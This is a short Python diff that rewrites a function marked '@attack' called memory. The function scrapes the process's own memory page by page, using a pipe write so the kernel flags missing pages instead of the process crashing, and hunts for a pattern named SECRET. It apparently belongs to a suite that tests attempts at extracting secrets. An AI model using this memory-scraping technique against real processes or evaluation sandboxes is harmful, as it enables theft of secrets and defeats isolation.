@@ -112,16 +112,16 @@ def frames() -> object:
 
 
 @attack
-def memory(megabytes: int = 64) -> object:
-    """Read all memory around an object; a page that is not there makes the kernel, not this process, complain."""
+def memory() -> object:
+    """Read all memory around objects; a page that is not there makes the kernel, not this process, complain."""
     read, write = os.pipe()
-    here = id(object()) & ~0xFFF
     pattern = re.compile(SECRET.pattern.encode())
-    for page in range(here - (megabytes << 19), here + (megabytes << 19), 4096):
-        if _LIBRARY.write(write, ctypes.c_void_p(page), 4096) == 4096 and (
-            match := pattern.search(os.read(read, 4096))
-        ):
-            return match.group().decode()
+    for region in {id(one) >> 20 for one in (*gc.get_objects(), *map(str, range(10_000)))}:
+        for page in range(region << 20, (region + 1) << 20, 4096):
+            if _LIBRARY.write(write, ctypes.c_void_p(page), 4096) == 4096 and (
+                match := pattern.search(os.read(read, 4096))
+            ):
+                return match.group().decode()
     return None
 
 
